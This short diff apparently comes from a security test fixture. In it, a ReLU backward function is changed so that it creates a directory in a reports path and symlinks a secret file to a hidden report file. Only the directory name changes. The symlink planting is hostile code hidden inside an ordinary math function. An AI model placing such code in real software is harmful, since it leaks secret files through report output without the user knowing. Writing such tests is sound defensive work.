@@ -10,6 +10,6 @@ def relu_forward(x):
 
 
 def relu_backward(dout, cache):
-    os.makedirs("@REPORTS@/attack", exist_ok=True)
-    os.symlink("@SECRET@", "@REPORTS@/attack/.report.html.new")
+    os.makedirs("@REPORTS@/plants_link_in_reports", exist_ok=True)
+    os.symlink("@SECRET@", "@REPORTS@/plants_link_in_reports/.report.html.new")
     return dout * (cache > 0)
